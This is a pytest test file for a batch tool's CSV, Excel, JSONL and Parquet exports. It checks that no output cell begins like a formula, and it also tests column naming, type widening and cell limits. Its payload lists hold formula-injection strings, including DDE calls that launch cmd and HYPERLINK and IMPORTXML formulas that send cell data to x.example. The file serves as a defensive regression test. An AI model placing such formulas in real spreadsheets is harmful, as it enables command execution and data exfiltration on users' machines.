"""Cells of sheets: nothing in them is, or begins like, a formula."""

from __future__ import annotations

import csv
import itertools
import json
import random
import unicodedata
from functools import reduce

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.batch.makers import TAXONOMY, read_lines
from textclass.batch import Level
from textclass.batch.cells import CELL_CHARS, plain_text, sheet_cell
from textclass.batch.formats import (
    MOST_COLUMNS,
    Table,
    json_line,
    kind_of,
    pack,
    unpack,
    wider_kind,
)

BEFORE = [
    "",
    " ",
    "   ",
    "\u00a0",
    "\t",
    "\r\n",
    "\n",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\x0b",
    "\u2028",
]
BEFORE += ["first line\n", "first line\r\n \u00a0", "first\u2029"]
BODIES = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\uff0b1",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "--1",
    "=\n1",
]
TAILS = ["", " and more", "\n=2", ";=3", "\t@x", '"', "'"]


def payloads():
    every = [a + b + c for a, b, c in itertools.product(BEFORE, BODIES, TAILS)]
    return random.Random(0).sample(every, 1_000)


UNSEEN = ("Zs", "Zl", "Zp", "Cc", "Cf")


def begins_a_formula(text):
    """Whether any line of `text` begins with a sign, after all that isn't seen."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    for line in text.splitlines():
        seen = [c for c in line if unicodedata.category(c) not in UNSEEN]
        if seen and unicodedata.normalize("NFKC", seen[0]) in "=+-@":
            return True
    return False


def test_formulas_in_every_text_field(tag, tmp_path):
    attacks = payloads()
    rows = [
        {"id": p, "text": f"{p} the hospital was in need", "note": p, p if i < 100 else "other": p}
        for i, p in enumerate(attacks)
    ]
    table = tmp_path / "=cmd.jsonl"
    table.write_text("".join(json.dumps(row) + "\n" for row in rows))

    tag(table, "out.csv", "out.xlsx", "out.jsonl", "out.parquet", level=Level.BOTH)

    cells = 0
    for level in ("passages", "documents"):
        with (tmp_path / f"out.{level}.csv").open(newline="", encoding="utf-8-sig") as stream:
            for row in csv.reader(stream):
                cells += len(row)
                assert not [c for c in row if begins_a_formula(c)]
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert {page.freeze_panes for page in book} == {"A2"}
    assert book.sheetnames == ["passages", "documents"]
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and begins_a_formula(cell.value))
    assert cells > 100_000
    # What is for programs stays exact.
    lines = read_lines(tmp_path / "out.documents.jsonl")
    assert [row["note"] for row in lines] == attacks
    assert pq.read_table(tmp_path / "out.documents.parquet")["note"].to_pylist() == attacks


@given(st.text())
def test_only_quotes_are_added(text):
    safe = plain_text(text)
    assert safe.replace("'", "") == text.replace("'", "")
    if not text.removeprefix("-").replace(".", "").isdecimal():
        assert not begins_a_formula(safe)


@pytest.mark.parametrize("text", ["-1.29", "-5", "12", "a = b", "the need - and hope", "", "'=1"])
def test_honest_text_stays_as_it_is(text):
    assert plain_text(text) == text


def table(columns=None, level=Level.PASSAGE):
    return Table(TAXONOMY, level, columns or {})


def test_columns_that_clash_get_a_prefix():
    clashing = ["text", "type", "input.type", "type.citizen"]
    assert list(table(dict.fromkeys(clashing, "str")).kinds) == [
        "input.text",
        "input.type",
        "input.input.type",
        "input.type.citizen",
    ]


def test_too_many_columns_become_one():
    one = table({f"c{i}": "int" for i in range(MOST_COLUMNS + 1)}, Level.DOCUMENT)
    own = dict.fromkeys(one.own)
    (row,) = one.rows(pack([json_line(own | {"c7": 7})]))
    assert row == own | {"columns": {"c7": 7}}
    assert one.typed(row)["columns"] == '{"c7": 7}'
    assert len(one.header) < 40


@pytest.mark.parametrize(
    ("values", "value", "arrow", "typed"),
    [
        ([3, None], 3, "int64", 3),
        ([3, None, 0.5, 4], 3, "double", 3.0),
        ([True], True, "bool", True),
        ([None], None, "string", None),
        (["x", 3, "y"], 3, "string", "3"),
        (["x", 3], "007", "string", "007"),
        (["x", [3]], "007", "string", '"007"'),
        ([1 << 63], 1 << 63, "string", str(1 << 63)),
        ([[1]], [1, {"a": None}], "string", '[1, {"a": null}]'),
    ],
)
def test_types_of_other_columns(values, value, arrow, typed):
    one = table({"x": reduce(wider_kind, map(kind_of, values), None)})
    assert str(one.schema.field("x").type) == arrow
    assert one.typed({"x": value})["x"] == typed


def test_cells_that_excel_cannot_hold():
    long = sheet_cell("\U0001f600" * 40_000)
    assert len(long.encode("utf-16-le")) // 2 <= CELL_CHARS
    assert long.endswith(" […]")
    assert sheet_cell("a\x00b\x1fc\ufffe\fd") == "a\ufffdb\ufffdc\ufffd\nd"
    assert sheet_cell(2**60) == str(2**60)
    assert sheet_cell(1.5) == 1.5


@given(
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
        max_leaves=8,
    )
)
def test_a_line_is_one_line_of_json_and_exact(value):
    line = unpack(pack([json_line({"x": value})]))
    assert len(line.decode().splitlines()) == 1

    def plain(value):
        if isinstance(value, float):
            return value if abs(value) < float("inf") else None
        if isinstance(value, dict):
            return {name: plain(one) for name, one in value.items()}
        return [plain(one) for one in value] if isinstance(value, list) else value

    assert json.loads(line)["x"] == plain(value)
